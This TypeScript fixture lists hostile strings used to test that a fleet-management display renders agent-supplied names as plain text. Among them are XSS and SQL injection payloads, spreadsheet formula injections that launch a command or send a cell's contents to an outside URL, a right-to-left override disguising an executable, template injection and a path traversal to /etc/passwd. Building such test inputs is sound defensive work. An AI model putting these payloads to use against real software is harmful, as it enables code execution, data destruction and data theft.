/**
 * Texts that a hostile or broken agent sends where a name is expected: markup, formulas of spreadsheets, marks that turn the writing
 * direction, names without end. What shows the fleet must show them as what they are: texts.
 */
export const hostileTexts: readonly string[] = [
  '<script>alert("muster")</script>',
  '"><img src=x onerror=alert(1)>',
  "'; drop table assets; --",
  "=cmd|' /C calc'!A0",
  '+HYPERLINK("http://example.org/?"&A1;"click")',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  'invoice\u202Efdp.exe',
  '\u200Fשלום\u200E مرحبا \u2066mixed\u2069',
  '{{constructor.constructor("alert(1)")()}}',
  '#{7*7} %s %n %x',
  '🖥️👩🏽‍💻 le poste d’Émilie ✨',
  'Z̸̢̛a̵͝l̷͑g̶̾o̸',
  `very-long-${'name-'.repeat(400)}end`,
  '../../../../etc/passwd',
  'null',
  '""quotes"" and, commas; and\ttabs',
];
